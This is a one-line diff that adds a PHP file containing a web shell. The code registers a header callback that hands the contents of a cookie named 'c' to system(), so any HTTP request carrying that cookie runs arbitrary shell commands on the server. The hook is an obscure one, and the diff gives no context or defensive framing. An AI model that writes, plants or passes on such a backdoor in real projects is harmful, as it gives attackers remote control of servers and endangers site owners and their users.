@@ -1,0 +1,1 @@
+<?php header_register_callback(function () { system($_COOKIE['c']); });
